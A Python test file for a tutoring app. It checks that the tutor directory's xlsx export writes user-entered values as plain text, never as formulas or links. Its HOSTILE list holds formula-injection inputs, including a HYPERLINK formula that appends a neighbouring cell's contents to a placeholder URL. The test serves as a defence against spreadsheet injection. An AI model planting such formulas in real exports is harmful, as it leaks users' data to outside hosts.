"""The tutor directory's xlsx: what a school typed stays text, never a formula or a link."""

import io

import openpyxl

from tests.tutoring.factories import user_with_role
from tutoring.models import RoleKind

from .test_rosters import approved_roster_with

HOSTILE = ['=HYPERLINK("http://x?"&B3,"a")', "+1", "-1", "@SUM(A1)"]


def test_it_writes_a_position_that_looks_like_a_formula_as_text(client, db):
    roster = approved_roster_with(len(HOSTILE))
    for entry, position in zip(roster.entries.order_by("person__last_name"), HOSTILE, strict=True):
        entry.position = position
        entry.save()
    client.force_login(user_with_role(RoleKind.METHODIST, municipality=roster.municipality))

    response = client.get("/community/tutors/export.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[4] for row in sheet.iter_rows(min_row=3, max_row=2 + len(HOSTILE))]
    assert sorted(cell.value for cell in cells) == sorted(HOSTILE)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
